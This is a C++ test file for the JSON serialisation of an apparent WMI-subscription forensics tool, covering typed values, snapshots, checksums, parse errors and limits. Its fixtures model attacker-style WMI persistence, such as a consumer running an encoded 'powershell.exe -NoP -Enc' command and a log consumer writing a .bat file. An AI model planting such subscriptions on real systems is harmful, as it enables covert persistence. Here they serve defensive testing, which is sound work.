// Tests for wmisub/json.hpp: typed values, every object class, snapshots with
// errors and provenance, checksums, located errors and limits. Needs nlohmann/json.
#include "wmisub/json.hpp"

#include "wmisub/collector.hpp"
#include "wmisub/engine.hpp"
#include "wmisub/sources/mof.hpp"

#include "corpus.hpp"
#include "shared_data.hpp"
#include "annotations.hpp"

#include <doctest/doctest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cmath>
#include <limits>
#include <string>
#include <variant>
#include <vector>

using namespace wmisub;

namespace {

timestamp at_seconds(std::int64_t s, std::int64_t micros = 0) {
    return timestamp{std::chrono::microseconds{s * 1'000'000 + micros}};
}

dmtf_datetime dmtf(std::string_view text) {
    auto d = parse_dmtf_datetime(text);
    REQUIRE(d);
    return *d;
}

// A value through JSON text and back.
value round_trip(const value& v) {
    const std::string text = dump_json(to_json(v));
    auto doc = parse_json(text);
    REQUIRE_MESSAGE(doc, doc.error().to_string());
    auto back = from_json<value>(*doc);
    REQUIRE_MESSAGE(back, back.error().to_string());
    return *back;
}

provenance full_provenance() {
    provenance p;
    p.kind = source_kind::repository;
    p.where = source_location{"C:/evidence/OBJECTS.DATA", 12, 7, 4096};
    p.page = 311;
    p.record = 4;
    p.event_record_id = 99887766;
    p.created = at_seconds(1'704'164'645, 678'000);
    p.modified = at_seconds(1'704'164'700, 1);
    p.actor_sid = "S-1-5-21-1-2-3-1001";
    return p;
}

std::vector<std::uint8_t> sid_bytes(std::string_view sid) {
    auto bytes = parse_sid(sid);
    REQUIRE(bytes);
    return *bytes;
}

// Structural equality of two objects of any kind, provenance included.
void check_same(const wmi_object& a, const wmi_object& b) {
    REQUIRE(kind_of(a) == kind_of(b));
    CHECK(namespace_of(a) == namespace_of(b));
    CHECK(class_name_of(a) == class_name_of(b));
    CHECK(origin_of(a) == origin_of(b));
    const std::vector<property> pa = properties_of(a);
    const std::vector<property> pb = properties_of(b);
    REQUIRE(pa.size() == pb.size());
    for (std::size_t i = 0; i < pa.size(); ++i) {
        CAPTURE(pa[i].name);
        CHECK(pa[i].name == pb[i].name);
        CHECK(pa[i].value == pb[i].value);
    }
    if (const auto* ca = std::get_if<consumer>(&a)) {
        const auto& cb = std::get<consumer>(b);
        REQUIRE(ca->index() == cb.index());
        if (const auto* custom = std::get_if<custom_consumer>(ca)) {
            CHECK(custom->key_names == std::get<custom_consumer>(cb).key_names);
            CHECK(custom->derivation == std::get<custom_consumer>(cb).derivation);
        }
    }
    if (const auto* ia = std::get_if<instance>(&a)) {
        CHECK(ia->key_names == std::get<instance>(b).key_names);
        CHECK(ia->derivation == std::get<instance>(b).derivation);
    }
}

wmi_object object_round_trip(const wmi_object& o) {
    const std::string text = dump_json(to_json(o));
    auto doc = parse_json(text);
    REQUIRE_MESSAGE(doc, doc.error().to_string());
    auto back = from_json<wmi_object>(*doc);
    REQUIRE_MESSAGE(back, back.error().to_string());
    return *back;
}

wmi_object typed(const instance& in) {
    std::vector<error> warnings;
    auto o = from_instance(in, &warnings);
    REQUIRE_MESSAGE(o, o.error().to_string());
    CHECK(warnings.empty());
    return *o;
}

instance make(std::string_view cls, std::string_view ns = "root\\subscription") {
    instance in;
    in.namespace_path = std::string(ns);
    in.class_name = std::string(cls);
    in.origin = full_provenance();
    return in;
}

snapshot sample_snapshot() {
    snapshot s;
    s.host = "WS01";
    s.collected_at = at_seconds(1'714'557'600, 123'456);
    instance f = make("__EventFilter");
    f.set("Name", value::string("BotFilter82"))
        .set("Query", value::string("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                                    "'Win32_PerfFormattedData_PerfOS_System'"))
        .set("QueryLanguage", value::string("WQL"))
        .set("EventNamespace", value::string("root\\cimv2"))
        .set("CreatorSID", value::bytes(sid_bytes("S-1-5-21-1-2-3-1001")));
    s.add(f, "test");
    instance c = make("CommandLineEventConsumer");
    c.set("Name", value::string("BotConsumer23"))
        .set("CommandLineTemplate", value::string("powershell.exe -NoP -Enc SQBFAFgA"))
        .set("KillTimeout", value::uint(45, cim_type::uint32))
        .set("Priority", value::sint(-5, cim_type::sint32))
        .set("RunInteractively", value::boolean(false));
    s.add(c, "test");
    instance b = make("__FilterToConsumerBinding");
    b.set("Filter", value::reference("__EventFilter.Name=\"BotFilter82\""))
        .set("Consumer", value::reference("CommandLineEventConsumer.Name=\"BotConsumer23\""))
        .set("DeliveryQoS", value::uint(0, cim_type::uint32));
    s.add(b, "test");
    instance t = make("__IntervalTimerInstruction");
    t.set("TimerId", value::string("T1")).set("IntervalBetweenEvents", value::uint(60000, cim_type::uint32));
    s.add(t, "test");
    instance other = make("__Win32Provider", "root\\subscription");
    other.key_names = {"Name"};
    other.set("Name", value::string("EvilProvider")).set("CLSID", value::string("{00000000-0000-0000-0000-000000000001}"));
    s.other_objects.push_back(other);
    s.errors.push_back({"com:root", "root\\secret", make_error(errc::access_denied, "access denied",
                                                                source_location{"com:root", 3, 4, 10})});
    s.errors.back().error.expected = "a readable namespace";
    return s;
}

void check_same_snapshot(const snapshot& a, const snapshot& b) {
    CHECK(a.host == b.host);
    CHECK(a.collected_at == b.collected_at);
    REQUIRE(a.filters.size() == b.filters.size());
    REQUIRE(a.consumers.size() == b.consumers.size());
    REQUIRE(a.bindings.size() == b.bindings.size());
    REQUIRE(a.timers.size() == b.timers.size());
    REQUIRE(a.other_objects.size() == b.other_objects.size());
    for (std::size_t i = 0; i < a.filters.size(); ++i) check_same(a.filters[i], b.filters[i]);
    for (std::size_t i = 0; i < a.consumers.size(); ++i) check_same(a.consumers[i], b.consumers[i]);
    for (std::size_t i = 0; i < a.bindings.size(); ++i) check_same(a.bindings[i], b.bindings[i]);
    for (std::size_t i = 0; i < a.timers.size(); ++i) check_same(a.timers[i], b.timers[i]);
    for (std::size_t i = 0; i < a.other_objects.size(); ++i) check_same(a.other_objects[i], b.other_objects[i]);
    CHECK(a.errors == b.errors);
}

}  // namespace

TEST_CASE("every CIM type round-trips exactly, type included") {
    embedded_object inner;
    inner.class_name = "Win32_Process";
    inner.properties = {{"Name", value::string("calc.exe")}, {"ProcessId", value::uint(4242, cim_type::uint32)}};
    embedded_object outer;
    outer.class_name = "__InstanceCreationEvent";
    outer.properties = {{"TargetInstance", value::object(inner)}, {"TIME_CREATED", value::uint(133'000'000'000'000'000ULL)}};

    const std::vector<value> values = {
        value{},
        value::null(cim_type::uint32),
        value::null(cim_type::datetime),
        value::boolean(true),
        value::boolean(false),
        value::sint(-128, cim_type::sint8),
        value::uint(255, cim_type::uint8),
        value::sint(-32768, cim_type::sint16),
        value::uint(65535, cim_type::uint16),
        value::sint(std::numeric_limits<std::int32_t>::min(), cim_type::sint32),
        value::uint(4'294'967'295u, cim_type::uint32),
        value::sint(std::numeric_limits<std::int64_t>::min(), cim_type::sint64),
        value::uint(std::numeric_limits<std::uint64_t>::max(), cim_type::uint64),
        value::real(1.5, cim_type::real32),
        value::real(-0.0),
        value::real(1e300),
        value::real(0.1),
        value::real(std::numeric_limits<double>::infinity()),
        value::real(-std::numeric_limits<double>::infinity(), cim_type::real32),
        value::char16(u'A'),
        value::char16(u'\u00e9'),
        value::char16(static_cast<char16_t>(0xD800)),  // a lone surrogate: kept as its number
        value::char16(u'"'),
        value::string(""),
        value::string("line\nbreak \"quoted\" \\ back\tslash \u00fcnicode \xF0\x9F\x98\x80"),
        value::datetime(dmtf("20240102030405.678000+060")),
        value::datetime(dmtf("00000001020304.000000:000")),
        value::datetime(dmtf("********123000.000000+000")),
        value::datetime(dmtf("20240102030405.12****-300")),
        value::reference("\\\\.\\root\\subscription:__EventFilter.Name=\"a \\\"b\\\"\""),
        value::object(outer),
        value::bytes(std::vector<std::uint8_t>{1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0}),
        value::array(cim_type::uint8, {}),
        value::strings({"a", "", "c"}),
        value::array(cim_type::sint16, {value::sint(-1, cim_type::sint16), value::null(cim_type::sint16)}),
        value::array(cim_type::boolean, {value::boolean(true), value::boolean(false)}),
        value::array(cim_type::real64, {value::real(2.5), value::real(-1e-300)}),
        value::array(cim_type::datetime, {value::datetime(dmtf("20240102030405.000000+000"))}),
        value::array(cim_type::reference, {value::reference("__EventFilter.Name=\"x\"")}),
        value::array(cim_type::object, {value::object(inner), value::null(cim_type::object)}),
        value::array(cim_type::char16, {value::char16(u'x'), value::char16(static_cast<char16_t>(0xDFFF))}),
        // Heterogeneous: elements whose types differ from the array's (as sloppy sources build them).
        value::array(cim_type::sint32, {value::uint(5, cim_type::uint32), value::sint(-1, cim_type::sint32), value{}}),
    };
    for (const value& v : values) {
        CAPTURE(dump_json(to_json(v), -1));
        const value back = round_trip(v);
        CHECK(back.type() == v.type());
        CHECK(back.is_array() == v.is_array());
        CHECK(back == v);
    }

    SUBCASE("NaN survives as a NaN real") {
        const value back = round_trip(value::real(std::numeric_limits<double>::quiet_NaN(), cim_type::real32));
        CHECK(back.type() == cim_type::real32);
        REQUIRE(back.as_real());
        CHECK(std::isnan(*back.as_real()));
    }
    SUBCASE("the plain and typed encodings are what the format documents") {
        const json_value j = to_json(value::bytes(std::vector<std::uint8_t>{1, 5}));
        CHECK(dump_json(j, -1) == R"({"type":"uint8[]","value":[1,5]})");
        CHECK(dump_json(to_json(value::datetime(dmtf("20240102030405.678000+060"))), -1) ==
              R"({"type":"datetime","value":"20240102030405.678000+060"})");
        CHECK(dump_json(to_json(value::reference("A.Name=\"b\"")), -1) == R"({"type":"ref","value":"A.Name=\"b\""})");
        CHECK(dump_json(to_json(value::array(cim_type::sint32, {value::uint(5, cim_type::uint32)})), -1) ==
              R"({"type":{"type":"sint32[]","elements":["uint32"]},"value":[5]})");
    }
}

TEST_CASE("hand-written values without types are inferred") {
    auto doc = parse_json(R"({"value": [1, 2, 3]})");
    REQUIRE(doc);
    auto v = from_json<value>(*doc);
    REQUIRE(v);
    CHECK(v->type() == cim_type::uint32);
    CHECK(v->is_array());
    auto neg = parse_json(R"({"value": [-1, 4294967296]})");
    REQUIRE(neg);
    auto w = from_json<value>(*neg);
    REQUIRE(w);
    CHECK(w->type() == cim_type::sint64);
}

TEST_CASE("each object class round-trips with its properties, types and provenance") {
    SUBCASE("filter") {
        instance in = make("__EventFilter");
        in.set("Name", value::string("F \"quoted\""))
            .set("Query", value::string("SELECT * FROM __TimerEvent WHERE TimerId = 'T1'"))
            .set("QueryLanguage", value::string("WQL"))
            .set("EventNamespace", value::string("root\\cimv2"))
            .set("EventAccess", value::string("O:BAG:BAD:(A;;0x40;;;WD)"))
            .set("CreatorSID", value::bytes(sid_bytes("S-1-5-32-544")))
            .set("Vendor_Extra", value::array(cim_type::uint16, {value::uint(1, cim_type::uint16)}));
        const wmi_object o = typed(in);
        check_same(o, object_round_trip(o));
        const json_value j = to_json(o);
        CHECK(j["kind"] == "filter");
        CHECK(j["name"] == "F \"quoted\"");
        CHECK(j["query_language"] == "WQL");
        CHECK(j["event_namespace"] == "root\\cimv2");
        CHECK(j["creator_sid"] == "S-1-5-32-544");
        CHECK(j["properties"]["CreatorSID"].is_array());
        CHECK(j["types"]["CreatorSID"] == "uint8[]");
        CHECK(j["fingerprint"] == fingerprint(o));
        CHECK(j["provenance"]["kind"] == "repository");
    }
    SUBCASE("active script consumer") {
        instance in = make("ActiveScriptEventConsumer");
        in.set("Name", value::string("KillProcess"))
            .set("ScriptingEngine", value::string("VBScript"))
            .set("ScriptText", value::string("Set o = GetObject(\"winmgmts:\")\r\n"))
            .set("KillTimeout", value::uint(45, cim_type::uint32))
            .set("MachineName", value::string("."))
            .set("MaximumQueueSize", value::uint(1000, cim_type::uint32));
        const wmi_object o = typed(in);
        check_same(o, object_round_trip(o));
        CHECK(to_json(o)["properties"]["KillTimeout"] == 45);
        CHECK(to_json(o)["types"]["KillTimeout"] == "uint32");
    }
    SUBCASE("command line consumer") {
        instance in = make("CommandLineEventConsumer");
        in.set("Name", value::string("C"))
            .set("CommandLineTemplate", value::string("cmd /c %TargetInstance.Name%"))
            .set("ExecutablePath", value::string("C:\\Windows\\System32\\cmd.exe"))
            .set("WorkingDirectory", value::string("C:\\"))
            .set("RunInteractively", value::boolean(true))
            .set("CreateNewConsole", value::boolean(false))
            .set("ShowWindowCommand", value::uint(0, cim_type::uint32))
            .set("Priority", value::sint(32, cim_type::sint32))
            .set("KillTimeout", value::uint(0, cim_type::uint32));
        const wmi_object o = typed(in);
        check_same(o, object_round_trip(o));
    }
    SUBCASE("log file consumer") {
        instance in = make("LogFileEventConsumer");
        in.set("Name", value::string("L"))
            .set("Filename", value::string("C:\\Users\\Public\\x.bat"))
            .set("Text", value::string("calc.exe"))
            .set("IsUnicode", value::boolean(false))
            .set("MaximumFileSize", value::uint(65535, cim_type::uint64));
        const wmi_object o = typed(in);
        check_same(o, object_round_trip(o));
    }
    SUBCASE("NT event log consumer") {
        instance in = make("NTEventLogEventConsumer");
        in.set("Name", value::string("SCM Event Log Consumer"))
            .set("SourceName", value::string("Service Control Manager"))
            .set("UNCServerName", value::null(cim_type::string))
            .set("EventID", value::uint(0, cim_type::uint32))
            .set("EventType", value::uint(1, cim_type::uint32))
            .set("Category", value::uint(0, cim_type::uint16))
            .set("NumberOfInsertionStrings", value::uint(2, cim_type::uint32))
            .set("InsertionStringTemplates", value::strings({"%TargetInstance.Name%", ""}))
            .set("NameOfUserSIDProperty", value::string("sid"));
        const wmi_object o = typed(in);
        check_same(o, object_round_trip(o));
    }
    SUBCASE("SMTP consumer") {
        instance in = make("SMTPEventConsumer");
        in.set("Name", value::string("S"))
            .set("SMTPServer", value::string("smtp.example.org"))
            .set("ToLine", value::string("a@example.org"))
            .set("Subject", value::string("%TargetInstance.Name%"))
            .set("HeaderFields", value::strings({"X-A: 1"}));
        const wmi_object o = typed(in);
        check_same(o, object_round_trip(o));
    }
    SUBCASE("custom consumer keeps its keys, derivation and property bag") {
        instance in = make("VendorWebhookConsumer");
        in.derivation = {"__EventConsumer", "__IndicationRelated", "__SystemClass"};
        in.key_names = {"Id"};
        in.set("Id", value::uint(7, cim_type::uint32))
            .set("Endpoint", value::string("https://198.51.100.7/x"))
            .set("MachineName", value::string("."));
        const wmi_object o = typed(in);
        REQUIRE(std::holds_alternative<custom_consumer>(std::get<consumer>(o)));
        check_same(o, object_round_trip(o));
    }
    SUBCASE("binding") {
        instance in = make("__FilterToConsumerBinding");
        in.set("Filter", value::reference("\\\\.\\root\\subscription:__EventFilter.Name=\"F\""))
            .set("Consumer", value::reference("CommandLineEventConsumer.Name=\"C\""))
            .set("DeliverSynchronously", value::boolean(false))
            .set("DeliveryQoS", value::uint(0, cim_type::uint32))
            .set("MaintainSecurityContext", value::boolean(true))
            .set("SlowDownProviders", value::boolean(false))
            .set("CreatorSID", value::bytes(sid_bytes("S-1-5-18")));
        const wmi_object o = typed(in);
        check_same(o, object_round_trip(o));
        const json_value j = to_json(o);
        CHECK(j["filter"] == "\\\\.\\root\\subscription:__EventFilter.Name=\"F\"");
        CHECK(j["consumer"] == "CommandLineEventConsumer.Name=\"C\"");
    }
    SUBCASE("interval and absolute timers") {
        instance interval = make("__IntervalTimerInstruction");
        interval.set("TimerId", value::string("T1"))
            .set("IntervalBetweenEvents", value::uint(60000, cim_type::uint32))
            .set("SkipIfPassed", value::boolean(false));
        check_same(typed(interval), object_round_trip(typed(interval)));
        instance absolute = make("__AbsoluteTimerInstruction");
        absolute.set("TimerId", value::string("T2")).set("EventDateTime", value::datetime(dmtf("20240101000000.000000+000")));
        const wmi_object o = typed(absolute);
        check_same(o, object_round_trip(o));
        CHECK(to_json(o)["types"]["EventDateTime"] == "datetime");
    }
    SUBCASE("an instance of another class stays an instance") {
        instance in = make("__EventFilter");  // an untyped filter (it has no Name) is kept as it is
        in.set("Query", value::string("SELECT * FROM __TimerEvent"));
        in.key_names = {"Name"};
        const wmi_object o{in};
        const wmi_object back = object_round_trip(o);
        REQUIRE(std::holds_alternative<instance>(back));
        check_same(o, back);
    }
}

TEST_CASE("provenance and collection errors round-trip") {
    const provenance p = full_provenance();
    auto back = from_json<provenance>(to_json(p));
    REQUIRE(back);
    CHECK(*back == p);
    CHECK(to_json(p)["created"] == "2024-01-02T03:04:05.678000Z");

    collection_error e{"mof:x.mof", "root\\cimv2", make_error(errc::syntax_error, "expected ';'", source_location{"x.mof", 3, 14, 88})};
    e.error.expected = "';'";
    const json_value j = to_json(e);
    CHECK(j["location"] == "x.mof:3:14");
    CHECK(j["code"] == "syntax_error");
    auto e2 = from_json<collection_error>(j);
    REQUIRE(e2);
    CHECK(*e2 == e);
}

TEST_CASE("a snapshot with errors and provenance round-trips through sealed text") {
    const snapshot s = sample_snapshot();
    const std::string text = to_json_text(s);
    REQUIRE(!text.empty());
    auto doc = parse_json(text);
    REQUIRE(doc);
    CHECK((*doc)["schema"] == "wmisub.snapshot/1");
    CHECK((*doc)["checksum"].get<std::string>().starts_with("sha256:"));
    CHECK((*doc)["tool"]["version"] == WMISUB_VERSION_STRING);
    auto back = snapshot_from_json_text(text);
    REQUIRE_MESSAGE(back, back.error().to_string());
    check_same_snapshot(s, *back);
    CHECK(to_json_text(*back) == text);  // writing is deterministic and reading loses nothing

    SUBCASE("the ADL hook gives the same document") {
        const json_value j = s;
        CHECK(j == to_json(s));
    }
    SUBCASE("reformatting keeps the checksum valid; editing content does not") {
        auto reformatted = snapshot_from_json_text(dump_json(*doc, -1));
        CHECK(reformatted);
        json_value edited = *doc;
        edited["consumers"][0]["properties"]["CommandLineTemplate"] = "calc.exe";
        auto rejected = snapshot_from_json_text(dump_json(edited));
        REQUIRE(!rejected);
        CHECK(rejected.error().code == errc::corrupt_data);
    }
    SUBCASE("the snapshot reads from UTF-16 text too") {
        auto back16 = snapshot_from_json_text("\xFF\xFE" + utf8_to_utf16le_bytes(text));
        REQUIRE(back16);
        check_same_snapshot(s, *back16);
    }
}

TEST_CASE("syntax errors have a line, column and byte offset") {
    auto r = parse_json("{\n  \"a\": 1,\n  \"b\": tru\n}", {}, "x.json");
    REQUIRE(!r);
    CHECK(r.error().code == errc::syntax_error);
    CHECK(r.error().location.source == "x.json");
    CHECK(r.error().location.line == 3);
    CHECK(r.error().location.column >= 8);
    CHECK(r.error().location.offset != source_location::npos);

    auto truncated = parse_json("{\"schema\": \"wmisub.snapshot/1\", \"filters\": [");
    REQUIRE(!truncated);
    CHECK(truncated.error().code == errc::unexpected_end);

    auto dup = parse_json(R"({"a": 1, "b": 2, "a": 3})");
    REQUIRE(!dup.has_value());
    const error& dup_error = dup.error();
    CHECK(dup_error.message.find("duplicate key") != std::string::npos);

    auto bad_utf8 = parse_json("\"\xC3\x28\"");
    REQUIRE(!bad_utf8);
    CHECK(bad_utf8.error().code == errc::invalid_encoding);

    auto trailing = parse_json("{} x");
    CHECK(!trailing);
    auto empty = parse_json("");
    CHECK(!empty);
}

TEST_CASE("limits: depth, values, elements, members and size") {
    json_limits limits;
    limits.max_depth = 8;
    CHECK(parse_json(std::string(8, '[') + std::string(8, ']'), limits));
    auto deep = parse_json(std::string(9, '[') + std::string(9, ']'), limits);
    REQUIRE(!deep);
    CHECK(deep.error().code == errc::limit_exceeded);
    auto very_deep = parse_json(std::string(100000, '['));  // default limits: refused long before the end
    REQUIRE(!very_deep);
    CHECK(very_deep.error().code == errc::limit_exceeded);

    json_limits small;
    small.max_values = 10;
    CHECK(!parse_json("[1,2,3,4,5,6,7,8,9,10,11]", small));
    small = {};
    small.max_array_elements = 3;
    CHECK(!parse_json("[1,2,3,4]", small));
    small = {};
    small.max_object_members = 2;
    CHECK(!parse_json(R"({"a":1,"b":2,"c":3})", small));
    small = {};
    small.max_bytes = 4;
    auto big = parse_json("[1, 2]", small);
    REQUIRE(!big);
    CHECK(big.error().code == errc::limit_exceeded);
}

namespace {

// A snapshot document of `n` filters and as many command-line consumers: big enough to be stopped while parsed.
std::string many_subscriptions_json(std::size_t n) {
    mock_collector source;
    for (std::size_t i = 0; i < n; ++i) {
        const std::string id = std::to_string(i);
        source.filter("F" + id, "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'")
            .command_line_consumer("C" + id, "cmd.exe /c echo " + id);
    }
    auto snap = source.collect();
    REQUIRE(snap);
    return to_json_text(*snap);
}

}  // namespace

TEST_CASE("a stop_signal stops a JSON read between documents and inside the parse, with the place it stopped") {
    const std::string text = many_subscriptions_json(1000);
    json_read_options options;
    options.source_name = "big.json";
    std::atomic<bool> cancel{true};
    options.stop.cancel = &cancel;
    auto cancelled = read_json_snapshot(text, options);
    REQUIRE(!cancelled);
    CHECK(cancelled.error().code == errc::cancelled);
    CHECK(cancelled.error().location.source == "big.json");

    // Deadlines from 50 us doubling, until one passes while the parser is inside the document:
    // at any machine speed some deadline falls there, since parsing is most of the read.
    options.stop = {};
    bool stopped_inside = false;
    for (auto budget = std::chrono::microseconds(50); budget < std::chrono::seconds(60) && !stopped_inside; budget *= 2) {
        options.stop.deadline = std::chrono::steady_clock::now() + budget;
        auto r = read_json_snapshot(text, options);
        if (r) break;  // the whole read fit in the budget: no later one stops it either
        REQUIRE(r.error().code == errc::timeout);
        if (r.error().message == "JSON parse deadline passed") {
            stopped_inside = true;
            CHECK(r.error().location.offset > 0);
            CHECK(r.error().location.offset < text.size());
            CHECK(r.error().location.line > 1);
        }
    }
    CHECK(stopped_inside);

    options.stop = {};
    auto whole = read_json_snapshot(text, options);
    REQUIRE(whole);
    CHECK(whole->filters.size() == 1000);
}

TEST_CASE("a snapshot keeps the consumer classes its sources could read through JSON") {
    snapshot s;
    s.readable_consumer_classes = std::vector<std::string>{"CommandLineEventConsumer", "ActiveScriptEventConsumer"};
    const std::string text = to_json_text(s);
    CHECK(text.find("readable_consumer_classes") != std::string::npos);
    auto back = snapshot_from_json_text(text);
    REQUIRE(back);
    CHECK(back->readable_consumer_classes == s.readable_consumer_classes);
    CHECK(to_json_text(*back) == text);

    const snapshot full;
    CHECK(to_json_text(full).find("readable_consumer_classes") == std::string::npos);
    auto full_back = snapshot_from_json_text(to_json_text(full));
    REQUIRE(full_back);
    CHECK_FALSE(full_back->readable_consumer_classes);

    auto bad = snapshot_from_json_text(R"({"schema": "wmisub.snapshot/1", "readable_consumer_classes": [3]})");
    REQUIRE(!bad);
    CHECK(bad.error().code == errc::type_mismatch);
    CHECK(bad.error().location.source.find("/readable_consumer_classes/0") != std::string::npos);
}

TEST_CASE("wrong types and missing fields become errors located by JSON pointer") {
    const std::string head = R"({"schema": "wmisub.snapshot/1", "consumers": [)";
    auto read = [&](const std::string& consumers, bool strict) {
        json_read_options options;
        options.strict = strict;
        options.source_name = "snap.json";
        return snapshot_from_json_text(head + consumers + "]}", options);
    };
    SUBCASE("a value that does not fit its declared type") {
        const std::string bad = R"({"kind": "consumer", "class": "CommandLineEventConsumer",
            "properties": {"Name": "C", "KillTimeout": "soon"}, "types": {"Name": "string", "KillTimeout": "uint32"}})";
        auto strict = read(R"({"kind":"consumer","class":"CommandLineEventConsumer","properties":{"Name":"A"}},)" + bad, true);
        REQUIRE(!strict);
        CHECK(strict.error().code == errc::type_mismatch);
        CHECK(strict.error().location.source == "snap.json#/consumers/1/properties/KillTimeout");
        CHECK(strict.error().message.find("/consumers/1/properties/KillTimeout") != std::string::npos);
        CHECK(strict.error().expected == "an integer");

        // Lenient (the default): the error is recorded and the object kept, the value with its JSON type.
        auto lenient = read(bad, false);
        REQUIRE(lenient);
        REQUIRE(lenient->consumers.size() == 1);
        REQUIRE(!lenient->errors.empty());
        CHECK(lenient->errors.front().error.location.source == "snap.json#/consumers/0/properties/KillTimeout");
        CHECK(header_of(lenient->consumers[0]).extra_property("KillTimeout") != nullptr);
    }
    SUBCASE("a modelled property of the wrong JSON type, without a types entry") {
        auto r = read(R"({"kind": "consumer", "class": "CommandLineEventConsumer", "properties": {"Name": "C", "KillTimeout": "soon"}})",
                      true);
        REQUIRE(!r);
        CHECK(r.error().location.source == "snap.json#/consumers/0/properties/KillTimeout");
        CHECK(r.error().expected == "uint32");
    }
    SUBCASE("out of range for the declared type") {
        auto r = read(R"({"class": "CommandLineEventConsumer", "properties": {"Name": "C", "KillTimeout": 4294967296},
                          "types": {"KillTimeout": "uint32"}})",
                      true);
        REQUIRE(!r);
        CHECK(r.error().location.source == "snap.json#/consumers/0/properties/KillTimeout");
    }
    SUBCASE("an unknown type name") {
        auto r = read(R"({"class": "CommandLineEventConsumer", "properties": {"Name": "C", "X": 1}, "types": {"X": "uint33"}})", true);
        REQUIRE(!r);
        CHECK(r.error().location.source == "snap.json#/consumers/0/types/X");
    }
    SUBCASE("a missing class") {
        auto r = read(R"({"kind": "consumer", "properties": {"Name": "C"}})", true);
        REQUIRE(!r);
        CHECK(r.error().code == errc::missing_field);
        CHECK(r.error().location.source == "snap.json#/consumers/0/class");
    }
    SUBCASE("a missing key property") {
        auto r = read(R"({"class": "CommandLineEventConsumer", "properties": {"CommandLineTemplate": "calc"}})", true);
        REQUIRE(!r);
        CHECK(r.error().location.source == "snap.json#/consumers/0/properties/Name");
    }
    SUBCASE("an object of the wrong kind in an array") {
        auto r = read(R"({"kind": "filter", "name": "F", "query": "SELECT * FROM __TimerEvent"})", true);
        REQUIRE(!r);
        CHECK(r.error().location.source == "snap.json#/consumers/0/kind");
        auto r2 = read(R"({"class": "__EventFilter", "properties": {"Name": "F"}})", true);
        REQUIRE(!r2);
        CHECK(r2.error().location.source == "snap.json#/consumers/0/class");
    }
    SUBCASE("members of the wrong JSON type") {
        auto r = read(R"({"class": 5})", true);
        REQUIRE(!r);
        CHECK(r.error().location.source == "snap.json#/consumers/0/class");
        auto r2 = read(R"({"class": "CommandLineEventConsumer", "properties": ["Name"]})", true);
        REQUIRE(!r2);
        CHECK(r2.error().location.source == "snap.json#/consumers/0/properties");
        auto r3 = read(R"({"class": "CommandLineEventConsumer", "name": "C", "provenance": {"line": "three"}})", true);
        REQUIRE(!r3);
        CHECK(r3.error().location.source == "snap.json#/consumers/0/provenance/line");
        auto r4 = snapshot_from_json_text(R"({"schema": "wmisub.snapshot/1", "filters": {}})");
        REQUIRE(!r4);
        CHECK(r4.error().location.source == "/filters");
    }
    SUBCASE("unknown members are tolerated") {
        auto r = read(R"({"class": "CommandLineEventConsumer", "name": "C", "future": {"x": [1, 2]}, "properties": {"CommandLineTemplate": "calc"}})",
                      true);
        REQUIRE_MESSAGE(r, r.error().to_string());
        REQUIRE(r->consumers.size() == 1);
        CHECK(header_of(r->consumers[0]).name == "C");
    }
}

TEST_CASE("schema tags are checked") {
    auto other = snapshot_from_json_text(R"({"schema": "wmisub.baseline/1", "entries": []})");
    REQUIRE(!other);
    CHECK(other.error().code == errc::type_mismatch);
    auto newer = snapshot_from_json_text(R"({"schema": "wmisub.snapshot/2"})");
    REQUIRE(!newer);
    CHECK(newer.error().code == errc::unsupported);
    CHECK(snapshot_from_json_text(R"({"schema": "wmisub.snapshot/1.3", "added_later": true})"));
    auto none = snapshot_from_json_text(R"({"filters": []})");
    REQUIRE(!none);
    CHECK(none.error().code == errc::missing_field);
    CHECK(!snapshot_from_json_text("[]"));
}

TEST_CASE("a hand-written snapshot with only the DESIGN fields reads") {
    auto s = snapshot_from_json_text(R"({
        "schema": "wmisub.snapshot/1",
        "filters": [{"namespace": "root\\subscription", "name": "F", "query": "SELECT * FROM __TimerEvent WHERE TimerId='T'",
                     "query_language": "WQL", "creator_sid": "S-1-5-18"}],
        "consumers": [{"namespace": "root\\subscription", "class": "CommandLineEventConsumer", "name": "C",
                       "properties": {"CommandLineTemplate": "calc.exe", "KillTimeout": 5}}],
        "bindings": [{"namespace": "root\\subscription", "filter": "__EventFilter.Name=\"F\"",
                      "consumer": "CommandLineEventConsumer.Name=\"C\""}]
    })");
    REQUIRE_MESSAGE(s, s.error().to_string());
    REQUIRE(s->filters.size() == 1);
    CHECK(s->filters[0].creator_sid_string() == "S-1-5-18");
    CHECK(s->filters[0].origin.kind == source_kind::snapshot);  // no provenance written: it comes from this file
    REQUIRE(s->consumers.size() == 1);
    const auto& c = std::get<command_line_consumer>(s->consumers[0]);
    CHECK(c.kill_timeout == 5u);
    REQUIRE(s->bindings.size() == 1);
    const subscription_graph graph(*s);
    CHECK(graph.entries().size() == 1);
    CHECK(graph.entries().front().state == subscription_state::bound);
    CHECK(s->errors.empty());
}

TEST_CASE("format detection works on content") {
    auto snap = parse_json(to_json_text(sample_snapshot()));
    REQUIRE(snap);
    CHECK(detect_json_format(*snap) == json_format::wmisub_snapshot);
    auto ps = parse_json(R"({"Name": "F", "Query": "q", "CimSystemProperties": {"ClassName": "__EventFilter"}})");
    REQUIRE(ps);
    CHECK(detect_json_format(*ps) == json_format::powershell);
    auto osq = parse_json(R"([{"class": "__EventFilter", "name": "F", "query": "q", "relative_path": "x"}])");
    REQUIRE(osq);
    CHECK(detect_json_format(*osq) == json_format::osquery);
    auto other = parse_json(R"({"hello": "world"})");
    REQUIRE(other);
    CHECK(detect_json_format(*other) == json_format::unknown);
}

TEST_CASE("invalid UTF-8 inside model strings never makes writing throw") {
    snapshot s;
    instance c = make("CommandLineEventConsumer");
    c.set("Name", value::string("bad\xFF\xFEname")).set("CommandLineTemplate", value::string("x\xC3"));
    s.add(c, "t");
    const std::string text = to_json_text(s);
    REQUIRE(!text.empty());
    auto back = snapshot_from_json_text(text);
    REQUIRE_MESSAGE(back, back.error().to_string());
    REQUIRE(back->consumers.size() == 1);
    CHECK(is_valid_utf8(header_of(back->consumers[0]).name));
}

TEST_CASE("the public attack and benign corpus round-trips through a snapshot") {
    WMISUB_REQUIRE_SHARED(attacks, "corpus/attacks.jsonl");
    WMISUB_REQUIRE_SHARED(benign, "corpus/benign.jsonl");
    snapshot s;
    for (const auto& path : {attacks, benign}) {
